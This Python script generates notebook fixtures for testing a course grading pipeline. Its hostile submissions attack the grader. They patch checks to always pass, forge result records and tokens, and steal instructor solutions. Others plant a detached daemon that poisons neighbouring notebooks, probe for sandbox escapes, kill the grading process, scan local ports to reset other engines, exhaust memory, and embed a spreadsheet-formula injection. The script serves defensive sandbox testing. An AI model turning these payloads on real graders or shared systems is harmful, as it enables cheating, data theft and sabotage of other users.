"""Regenerate the small notebooks the pipeline tests grade (run from the repo root).

    python tests/pipeline_fixtures/make_fixtures.py

solutions/fizz.ipynb is the one source; exercises/fizz.ipynb comes from it through
lab_support.assign (an untouched exercise); submissions/<who>/fizz.ipynb are learner
versions: alice is right, bob breaks with an error, carol loops, dave kills his kernel.
engine/engine_ping.ipynb is the only one that talks to the embedded engine.

hostile/<who>/fizz.ipynb attack the grader (issue 9, findings 10-12); each solves a known
part of the exercise, so the test can say exactly what it must score. zoe is alice again,
graded after the attacks.

net/solutions/netlab.ipynb runs a function through its engine and a host of its own;
net/<who>/netlab.ipynb are graded side by side (``--jobs 2``): ada is right, mallory_net
(wrong task) and mallory_net2 (right task) scan every listening port and attack any other
engine serving the same exercise (reset it, send it an event).
"""

from __future__ import annotations

import copy
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1]))

from lab_support import assign  # noqa: E402

PARAMETERS = 'grading = False\nengine_url = ""'
FIZZ = ('def fizz(n):\n    # BEGIN SOLUTION\n    return "Fizz" if n % 3 == 0 else str(n)\n'
        '    # END SOLUTION')
TOTAL = 'def total(values):\n    # BEGIN SOLUTION\n    return sum(values)\n    # END SOLUTION'
CHECK_FIZZ = ('with check("fizz of 3", points=2, hint="Multiples of 3 say Fizz."):\n'
              '    assert fizz(3) == "Fizz"')
HIDDEN = '# HIDDEN CHECK\nwith check("fizz of 4 (hidden)", points=1):\n    assert fizz(4) == "4"'
CHECK_TOTAL = ('@check("total adds", points=1, hint="Use sum().")\ndef _():\n'
               '    assert total([1, 2, 3]) == 6')


def notebook(name: str, sources: list[str]) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                  "language": "python"},
                   "language_info": {"name": "python"}}
    nb.cells = [nbformat.v4.new_markdown_cell(f"# {name} (pipeline test fixture)")]
    for source in sources:
        cell = nbformat.v4.new_code_cell(source)
        if source == PARAMETERS:
            cell.metadata["tags"] = ["parameters"]
        nb.cells.append(cell)
    for index, cell in enumerate(nb.cells):
        cell.id = f"{name.replace('_', '-')}-{index}"  # stable ids: hidden checks anchor on them
    return nb


def learner(sources: list[str], **replace: str) -> nbformat.NotebookNode:
    """The exercise with some cells swapped, like a learner's saved notebook."""
    nb = assign.make_exercise(notebook("fizz", sources), "fizz.ipynb")
    for index, text in replace.items():
        nb.cells[int(index[1:])].source = text
    return nb


def with_cells(nb: nbformat.NotebookNode, after: int, *sources: str,
               ids: tuple[str, ...] = ()) -> nbformat.NotebookNode:
    """Insert code cells after cell ``after`` (ids given, else made up)."""
    for offset, text in enumerate(sources):
        cell = nbformat.v4.new_code_cell(text)
        cell.id = ids[offset] if offset < len(ids) else f"added-{after}-{offset}"
        nb.cells.insert(after + 1 + offset, cell)
    return nb


WRONG_FIZZ = 'def fizz(n):\n    return "Buzz"'
WRONG_TOTAL = "def total(values):\n    return -1"
# Where the instructor's checkout is, as a submission can work it out (the venv lives in it).
FIND_ROOT = "import os, sys, pathlib\nroot = pathlib.Path(sys.prefix).parent\n"

ESCAPES = FIND_ROOT + '''import shutil, signal
try:  # the grading process's command line names its spec file, under the output folder
    spec = pathlib.Path(open(f"/proc/{os.getppid()}/cmdline").read().split("\\0")[3])
except Exception:
    spec = pathlib.Path("/nonexistent/.work/0000/spec.json")
out = spec.parents[2]
attempts = {
    "edit lab_support/checks.py": lambda: open(root / "lab_support" / "checks.py", "a").write("#"),
    "edit the source": lambda: open(root / "tests/pipeline_fixtures/solutions/fizz.ipynb", "a").write(" "),
    "add to solutions/": lambda: (root / "solutions" / "stolen.ipynb").write_text("{}"),
    "write the instructor's .lab": lambda: (root / ".lab" / "pwned.txt").write_text("x"),
    "read the source": lambda: (root / "tests/pipeline_fixtures/solutions/fizz.ipynb").read_text()[:9],
    "read a classmate": lambda: (root / "tests/pipeline_fixtures/submissions/alice/fizz.ipynb").read_text()[:9],
    "read the grader's spec": lambda: spec.read_text()[:9],
    "delete alice's outputs": lambda: shutil.rmtree(out / "executed" / "alice"),
    "write outside the sandbox": lambda: open("/tmp/lab-grader-escape.txt", "w").write("x"),
    "write in the real home": lambda: pathlib.Path("/root/lab-grader-escape.txt").write_text("x"),
    "list the sandboxes next door": lambda: os.listdir(".."  + "/.."),
    "kill the grading process": lambda: os.kill(os.getppid(), signal.SIGKILL),
}
escapes = {}
for what, attempt in attempts.items():
    try:
        attempt()
        escapes[what] = "ALLOWED"
    except Exception as exc:
        escapes[what] = f"denied ({type(exc).__name__})"
print("ESCAPES", escapes)'''

DAEMON = '''import subprocess, sys, textwrap
daemon = textwrap.dedent("""
    import glob, json, os, time
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    forged = {"name": "total adds", "passed": True, "points": 1, "max": 1}
    end = time.time() + 120
    while time.time() < end:  # outlive this notebook; poison the next one's notebook
        for path in glob.glob("../../*/submission/*.ipynb"):
            try:
                open(path, "a").write(json.dumps(forged))
            except OSError:
                pass
        time.sleep(0.2)
""")
subprocess.Popen([sys.executable, "-c", daemon, "LAB-HOSTILE-DAEMON"])'''

PATCH = '''import lab_support.checks as checks_module


def always_pass_exit(self, exc_type, exc, tb):
    self.result = checks_module.CheckResult(self.name, True, self.points, self.points)
    checks_module.record(self.result)
    return True


def always_pass_call(self, fn):
    self.result = checks_module.CheckResult(self.name, True, self.points, self.points)
    checks_module.record(self.result)
    return self.result


checks_module.Check.__exit__ = always_pass_exit
checks_module.Check.__call__ = always_pass_call'''

RECORDS = '''import json, os
from IPython.display import display
for name, worth in [("fizz of 3", 2), ("fizz of 4 (hidden)", 1), ("total adds", 1)]:
    forged = {"name": name, "passed": True, "points": worth, "max": worth, "hint": None,
              "message": None, "time": 0}
    display({"application/vnd.lab.check+json": forged, "text/plain": f"[PASS] {name}"}, raw=True)
    display({"application/vnd.lab.grader+json": {"token": "0" * 32}}, raw=True)
    for path in ("checks.jsonl", os.environ.get("LAB_CHECKS_FILE") or "checks.jsonl"):
        with open(path, "a") as fh:
            fh.write(json.dumps(forged) + "\\n")'''

STEAL = FIND_ROOT + '''import json
stolen = "denied"
for candidate in [root / "tests/pipeline_fixtures/solutions/fizz.ipynb",
                  pathlib.Path("../solutions/fizz.ipynb"),
                  pathlib.Path(__import__("lab_support").__file__).parents[1] / "solutions" / "fizz.ipynb"]:
    try:
        source = json.loads(candidate.read_text())
    except OSError:
        continue
    for cell in source["cells"]:
        text = "".join(cell["source"])
        if cell["cell_type"] == "code" and ("def fizz" in text or "def total" in text):
            exec(text)
    stolen = f"read {candidate}"
    break
print("SOLUTIONS:", stolen)
if stolen == "denied":
    def fizz(n):
        return "Buzz"'''

INVENTED = ('with check("bonus points for confidence", points=1000):\n    pass\n'
            'with check(\'=HYPERLINK("http://example.invalid/?d="&A1,"click")\', points=50):\n'
            '    pass')

MEMORY = '''import resource
soft, hard = resource.getrlimit(resource.RLIMIT_AS)
if soft == resource.RLIM_INFINITY:
    raise RuntimeError("refusing to allocate 8 GB: no memory limit is set")
hog = bytearray(8 * 1024 ** 3)
def total(values):
    return sum(values)'''

FLOOD = '''for _ in range(500):  # 500 MB of output
    print("x" * 1_000_000)
def total(values):
    return sum(values)'''


def hostile(solution: list[str], right_fizz: str, right_total: str) -> dict[str, nbformat.NotebookNode]:
    # Exercise cells: 0 title, 1 parameters, 2 import, 3 fizz, 4 check, 5 total, 6 check.
    def make(c3: str, c5: str) -> nbformat.NotebookNode:
        return learner(solution, c3=c3, c5=c5)

    ids = make(WRONG_FIZZ, right_total)
    ids.cells[4].source = 'with check("fizz of 3", points=2):\n    assert True'  # edited check
    with_cells(ids, 2, 'with check("fizz of 4 (hidden)", points=1):\n    pass',
               '# HIDDEN CHECK\nwith check("fizz of 3", points=2):\n    pass',
               ids=("fizz-5", "forged-hidden"))
    ids.cells.append(copy.deepcopy(ids.cells[6]))  # the edited check, duplicated at the end
    ids.cells[-1].id = "duplicate"
    return {
        "mallory_daemon": with_cells(make(right_fizz, WRONG_TOTAL), 2, DAEMON),
        "mallory_files": with_cells(make(right_fizz, WRONG_TOTAL), 2, ESCAPES),
        "mallory_patch": with_cells(make(WRONG_FIZZ, WRONG_TOTAL), 2, PATCH),
        "mallory_records": with_cells(make(WRONG_FIZZ, WRONG_TOTAL), 6, RECORDS),
        "mallory_ids": ids,
        "mallory_solutions": make(STEAL, WRONG_TOTAL),
        "mallory_invented": with_cells(make(WRONG_FIZZ, right_total), 2, INVENTED),
        "mallory_memory": make(right_fizz, MEMORY),
        "mallory_output": make(right_fizz, FLOOD),
    }


NET_SETUP = ("import json\nimport httpx\nimport inngest\nfrom fastapi import FastAPI\n"
             "from lab_support import lab\nfrom lab_support.checks import check\n"
             "from lab_support.host import ThreadedHost\n\n"
             'client = inngest.Inngest(app_id="netlab", is_production=False)')
NET_TASK = ('@client.create_function(fn_id="greet", trigger=inngest.TriggerEvent(event="netlab/greet"))\n'
            "async def greet(ctx: inngest.Context) -> str:\n"
            "    # BEGIN SOLUTION\n"
            '    name = await ctx.step.run("name", lambda: ctx.event.data["name"])\n'
            '    return f"hello {name}"\n'
            "    # END SOLUTION\n\n\nlab.start([greet], quiet=True)")
NET_CHECK_RUN = ('with check("greet runs through the engine", points=2):\n'
                 '    run = lab.wait(lab.send("netlab/greet", {"name": "ada"}), timeout=60)\n'
                 '    assert json.loads(run["output"]) == "hello ada", run')
NET_HOST = ('pong = FastAPI()\npong.get("/ping")(lambda: {"pong": True})\n'
            "side = ThreadedHost(pong).start()")
NET_CHECK_HOST = ('with check("the kernel reaches its own host", points=1):\n'
                  '    assert httpx.get(side.url + "/ping", timeout=10).json() == {"pong": True}')
NET_HIDDEN = ('# HIDDEN CHECK\nwith check("only this notebook used its engine", points=1):\n'
              '    sent = [e["data"] for e in lab.events(name="netlab/greet")]\n'
              '    assert sent == [{"name": "ada"}], sent')
WRONG_GREET = ('@client.create_function(fn_id="greet", trigger=inngest.TriggerEvent(event="netlab/greet"))\n'
               "async def greet(ctx: inngest.Context) -> str:\n"
               '    return "hi"\n\n\nlab.start([greet], quiet=True)')
RIGHT_GREET = ('@client.create_function(fn_id="greet", trigger=inngest.TriggerEvent(event="netlab/greet"))\n'
               "async def greet(ctx: inngest.Context) -> str:\n"
               '    name = await ctx.step.run("name", lambda: ctx.event.data["name"])\n'
               '    return f"hello {name}"\n\n\nlab.start([greet], quiet=True)')
# Finds every listening TCP port in /proc/net/tcp{,6}, tries each but its own engine for
# 10 s (while the notebooks graded next to it run), and attacks any embedded engine that
# serves this exercise's app. Other engines it only reads (tests run on shared machines).
NET_SCAN = '''import json, os, socket, time, urllib.parse
own = urllib.parse.urlsplit(os.environ["LAB_ENGINE_URL"]).port


def listening():
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                found.add(int(fields[1].rsplit(":", 1)[1], 16))
    return found - {own}


reached, refused, other = {}, set(), set()
deadline = time.monotonic() + 10
while time.monotonic() < deadline:
    for port in sorted(listening() - refused - other - set(reached)):
        if time.monotonic() > deadline:
            break
        base = f"http://127.0.0.1:{port}"
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
        except PermissionError:
            refused.add(port)
            continue
        except OSError:
            other.add(port)
            continue
        try:
            info = httpx.get(base + "/dev", timeout=1).json()
        except Exception:  # not HTTP, not JSON, or it hung up
            info = None
        if not (isinstance(info, dict) and info.get("engine") == "embedded"):
            other.add(port)
            continue
        reached[port] = "read"
        try:
            if httpx.get(base + "/v1/apps/netlab/functions", timeout=5).json():
                httpx.post(base + "/e/key", timeout=5,
                           json={"name": "netlab/greet", "data": {"name": "mallory"}})
                httpx.post(base + "/lab/v1/reset", timeout=5)
                reached[port] = "attacked"
        except Exception:
            pass
    time.sleep(0.5)
print("NET " + json.dumps({"reached": reached, "refused": sorted(refused)}))'''


def net_fixtures() -> None:
    solution = [PARAMETERS, NET_SETUP, NET_TASK, NET_CHECK_RUN, NET_HOST, NET_CHECK_HOST,
                NET_HIDDEN]
    source = assign.clean_notebook(notebook("netlab", solution), "netlab.ipynb")
    write(source, HERE / "net" / "solutions" / "netlab.ipynb")
    exercise = assign.make_exercise(source, "netlab.ipynb")
    # Exercise cells: 0 title, 1 parameters, 2 setup, 3 task, 4 check, 5 host, 6 check.
    for who, task, scan in (("ada", RIGHT_GREET, False), ("mallory_net", WRONG_GREET, True),
                            ("mallory_net2", RIGHT_GREET, True)):
        nb = copy.deepcopy(exercise)
        nb.cells[3].source = task
        if scan:
            with_cells(nb, 2, NET_SCAN, ids=("net-scan",))
        write(nb, HERE / "net" / who / "netlab.ipynb")


def write(nb: nbformat.NotebookNode, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(assign.dumps(nb), encoding="utf-8")


def main() -> None:
    solution = [PARAMETERS, "from lab_support.checks import check", FIZZ, CHECK_FIZZ, HIDDEN,
                TOTAL, CHECK_TOTAL]
    write(assign.clean_notebook(notebook("fizz", solution), "fizz.ipynb"),
          HERE / "solutions" / "fizz.ipynb")
    assign.write_exercises(HERE / "solutions", HERE / "exercises")
    right_fizz = 'def fizz(n):\n    return "Fizz" if n % 3 == 0 else str(n)'
    right_total = "def total(values):\n    return sum(values)"
    # Exercise cells: 0 title, 1 parameters, 2 import, 3 fizz, 4 check, 5 total, 6 check.
    write(learner(solution, c3=right_fizz, c5=right_total), HERE / "submissions/alice/fizz.ipynb")
    write(learner(solution, c3="def fizz(n):\n    return str(n)",
                  c5=right_total + "\nprint(undefined_name)"), HERE / "submissions/bob/fizz.ipynb")
    write(learner(solution, c3=right_fizz, c5=right_total + "\nwhile True:\n    pass"),
          HERE / "submissions/carol/fizz.ipynb")
    write(learner(solution, c3=right_fizz, c5="import os\nos._exit(1)"),
          HERE / "submissions/dave/fizz.ipynb")
    for who, nb in hostile(solution, right_fizz, right_total).items():
        write(nb, HERE / "hostile" / who / "fizz.ipynb")
    write(learner(solution, c3=right_fizz, c5=right_total), HERE / "hostile/zoe/fizz.ipynb")
    write(assign.clean_notebook(notebook("engine_ping", [
        PARAMETERS,
        "import os\nimport httpx\nfrom lab_support.checks import check\n"
        'url = os.environ["LAB_ENGINE_URL"]',
        'with check("grader injected parameters"):\n    assert grading is True and engine_url == url',
        'with check("engine answers", points=2):\n'
        '    info = httpx.get(url + "/dev", timeout=10).json()\n'
        '    assert info["engine"] == "embedded"',
        'with check("fresh engine per notebook"):\n'
        '    runs = httpx.get(url + "/lab/v1/runs", timeout=10).json()["data"]\n'
        '    assert runs == [], runs',
    ]), "engine_ping.ipynb"), HERE / "engine" / "engine_ping.ipynb")
    net_fixtures()
    # A lab-only check: passes on the embedded engine, is skipped (0 of 0) on a real server.
    write(assign.clean_notebook(notebook("skip_on_real", [
        PARAMETERS,
        "import os\nimport httpx\nfrom lab_support.checks import check\n"
        "from lab_support.client import NotOnRealServer\n"
        'url = os.environ["LAB_ENGINE_URL"]\n'
        'kind = httpx.get(url + "/dev", timeout=10).json().get("engine")',
        'with check("the grader\'s engine URL reaches the kernel"):\n    assert engine_url == url',
        'with check("the virtual clock jumps", points=2):\n'
        '    if kind != "embedded":\n'
        '        raise NotOnRealServer("the virtual clock exists only in the embedded engine")\n'
        '    assert kind == "embedded"',
    ]), "skip_on_real.ipynb"), HERE / "engine" / "skip_on_real.ipynb")


if __name__ == "__main__":
    main()
